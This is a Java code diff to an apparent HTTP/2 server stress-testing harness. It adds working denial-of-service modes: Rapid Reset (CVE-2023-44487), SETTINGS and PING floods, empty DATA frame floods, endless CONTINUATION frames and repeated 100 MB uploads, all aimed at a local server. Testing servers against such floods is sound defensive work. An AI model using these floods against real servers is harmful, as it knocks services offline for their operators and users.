@@ -20,7 +20,19 @@ enum Attack {
     /** RST_STREAM on streams the server already finished. */
     RST_CLOSED("rst-closed", "/small.txt"),
     /** HEADERS blocks that begin with thousands of dynamic table size updates. */
-    HPACK_SIZE("hpack-size", "/small.txt");
+    HPACK_SIZE("hpack-size", "/small.txt"),
+    /** CVE-2023-44487: HEADERS(END_STREAM) then RST_STREAM(CANCEL) at once, back to back. */
+    RAPID_RESET("rapid-reset", "/slow"),
+    /** Empty SETTINGS frames back to back (each owes an ACK). */
+    SETTINGS_FLOOD("settings-flood", null),
+    /** PING frames back to back (each owes a PING ACK). */
+    PING_FLOOD("ping-flood", null),
+    /** A POST stream, then DATA frames of length 0 without END_STREAM, back to back. */
+    EMPTY_DATA("empty-data", "/plaintext"),
+    /** HEADERS without END_HEADERS, then CONTINUATION frames that never end the block. */
+    CONTINUATION("continuation", "/small.txt"),
+    /** 100 MB POSTs one after another, within the server's flow-control windows. */
+    UPLOAD("upload", "/plaintext");
 
     final String label;
     final String defaultPath;
@@ -125,6 +137,89 @@ enum Attack {
                 }
                 while (running.getAsBoolean() && c.open()) {
                     c.send(f, BATCH);
+                }
+            }
+            case RAPID_RESET -> {
+                while (running.getAsBoolean() && c.open()) {
+                    f.clear();
+                    for (int i = 0; i < 50; i++) {
+                        int id = c.nextStreamId();
+                        f.headers(id, get, true);
+                        f.rstStream(id, Frames.CANCEL);
+                    }
+                    c.streamsOpened += 50;
+                    c.send(f, 100);
+                }
+            }
+            case SETTINGS_FLOOD, PING_FLOOD -> {
+                byte[] opaque = new byte[8];
+                for (int i = 0; i < BATCH; i++) {
+                    if (this == PING_FLOOD) {
+                        f.ping(opaque);
+                    } else {
+                        f.settings();
+                    }
+                }
+                while (running.getAsBoolean() && c.open()) {
+                    c.send(f, BATCH);
+                }
+            }
+            case EMPTY_DATA -> {
+                int id = c.nextStreamId();
+                f.headers(id, Frames.postBlock("127.0.0.1:" + port, path), false);
+                c.streamsOpened++;
+                c.send(f, 1);
+                f.clear();
+                for (int i = 0; i < BATCH; i++) {
+                    f.data(id, 0, false);
+                }
+                while (running.getAsBoolean() && c.open()) {
+                    c.send(f, BATCH);
+                }
+            }
+            case CONTINUATION -> {
+                int id = c.nextStreamId();
+                f.headersOpen(id, get);
+                c.streamsOpened++;
+                c.send(f, 1);
+                f.clear();
+                // A literal field without indexing, new name, repeated: x-c: 64 bytes.
+                byte[] piece = new byte[2 + 3 + 1 + 64];
+                piece[0] = 0x00;
+                piece[1] = 3;
+                piece[2] = 'x';
+                piece[3] = '-';
+                piece[4] = 'c';
+                piece[5] = 64;
+                java.util.Arrays.fill(piece, 6, piece.length, (byte) 'v');
+                for (int i = 0; i < BATCH; i++) {
+                    f.continuation(id, piece, false);
+                }
+                while (running.getAsBoolean() && c.open()) {
+                    c.send(f, BATCH);
+                }
+            }
+            case UPLOAD -> {
+                byte[] post = Frames.postBlock("127.0.0.1:" + port, path);
+                while (running.getAsBoolean() && c.open()) {
+                    c.awaitInFlightBelow(1);
+                    int id = c.nextStreamId();
+                    c.newUploadStream();
+                    f.clear();
+                    f.headers(id, post, false);
+                    c.streamsOpened++;
+                    c.send(f, 1);
+                    long left = 100L << 20;
+                    while (left > 0 && running.getAsBoolean() && c.open()) {
+                        int n = c.takeCredit((int) Math.min(16384, left));
+                        if (n == 0) {
+                            break;
+                        }
+                        left -= n;
+                        f.clear();
+                        f.data(id, n, left == 0);
+                        c.send(f, 1);
+                    }
                 }
             }
             case HPACK_SIZE -> {
